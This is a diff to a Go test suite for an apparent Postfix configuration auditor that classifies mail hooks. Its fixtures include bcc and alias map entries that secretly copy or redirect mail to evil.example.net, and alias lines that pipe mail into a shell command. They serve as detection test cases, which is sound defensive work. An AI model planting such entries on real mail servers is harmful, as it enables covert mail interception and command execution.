@@ -104,8 +104,15 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/main.cf:virtual_alias_maps:3 | map | table socketmap:unix:/run/s:n | divert | external",
 			"/etc/postfix/main.cf:virtual_alias_maps:4 | map | table ldap:dir | divert | remote | external",
 			"/etc/postfix/main.cf:virtual_alias_maps:5 | map | table evil:/x | divert | external"}},
-		{"nested tables", "recipient_bcc_maps = pipemap:{hash:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "alice@example.test k1\n", "/etc/postfix/t2": "/^k1$/ drop@evil.example.net\n"}, []string{
+		{"nested tables", "recipient_bcc_maps = pipemap:{hash:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "alice@example.test k1\nbob@example.test k2\n", "/etc/postfix/t2": "/^k(1)$/ drop$1@evil.example.net\n"}, []string{
+			"/etc/postfix/t1:recipient_bcc_maps:alice@example.test | copy | address drop1@evil.example.net | copy | remote"}},
+		{"joined tables", "virtual_alias_maps = unionmap:{texthash:/etc/postfix/t1,inline:{alice@example.test=x@evil.example.net}}\n", map[string]string{"/etc/postfix/t1": "alice@example.test alice@example.test\n"}, []string{
+			"/etc/postfix/t1:virtual_alias_maps:alice@example.test:2 | copy | address x@evil.example.net | copy | remote"}},
+		{"nested tables that can't be worked out", "recipient_bcc_maps = pipemap:{regexp:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "/a/ k1\n", "/etc/postfix/t2": "/^k1$/ drop@evil.example.net\n"}, []string{
 			"/etc/postfix/t2:recipient_bcc_maps:/^k1$/ | copy | address drop@evil.example.net | copy | remote"}},
+		{"a key twice", "virtual_alias_maps = texthash:/etc/postfix/t1\n", map[string]string{"/etc/postfix/t1": "a@example.test bob\nA@example.test x@evil.example.net\n"}, []string{
+			"/etc/postfix/t1:virtual_alias_maps:a@example.test | redirect | address bob | divert",
+			"/etc/postfix/t1:virtual_alias_maps:A@example.test | redirect | address x@evil.example.net | divert | remote | inactive"}},
 		{"aliases", "alias_maps = hash:/etc/aliases\n", map[string]string{
 			"/etc/aliases": "root: admin\nlog: \"|/bin/sh -c 'id > /x'\", /var/tmp/f, /dev/null\nteam: :include:/etc/team\nalice: \\alice, a@evil.example.net\n",
 			"/etc/team":    "bob\n|/usr/local/bin/x\n:include:/etc/team\n"}, []string{
